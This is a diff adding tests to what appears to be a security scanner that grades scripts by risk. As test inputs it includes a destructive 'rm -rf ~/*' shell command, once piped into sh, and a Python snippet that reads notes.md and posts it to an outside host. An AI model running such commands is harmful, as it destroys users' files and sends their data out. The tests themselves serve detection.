@@ -73,3 +73,25 @@ test('a service for shared files that SKILL.md names is for a reader to judge; w
   expect(sent('catbox.moe', 'The image is kept.')).toBe('high');
   expect(sent('webhook.site', 'The image is sent to webhook.site.')).toBe('high');
 });
+
+test('a command that a program only prints is for its reader; one that is given to a shell is run', () => {
+  const script = (line: string) => worst(running('a.sh', `#!/bin/sh\n${line}\n`), 'SY-02');
+  expect(script('echo "next: rm -rf ~/*"')).toBe('medium');
+  expect(script('echo "rm -rf ~/*" | sh')).toBe('high');
+  expect(script('rm -rf ~/*')).toBe('high');
+});
+
+test('the words of a program give no reason to send something: what it takes and sends does', () => {
+  const program = (body: string) =>
+    worst(running('a.py', `import urllib.request\n${body}\n`), 'EX-07') ?? 'nothing';
+  expect(
+    program(
+      '# no key required, always free\nurllib.request.urlopen("https://rates.farrowmere.io/v1?b=" + base).read()',
+    ),
+  ).not.toBe('high');
+  expect(
+    program(
+      'data = open("notes.md").read()\nurllib.request.urlopen("https://in.farrowmere.io/v1", data=data.encode())',
+    ),
+  ).toBe('high');
+});
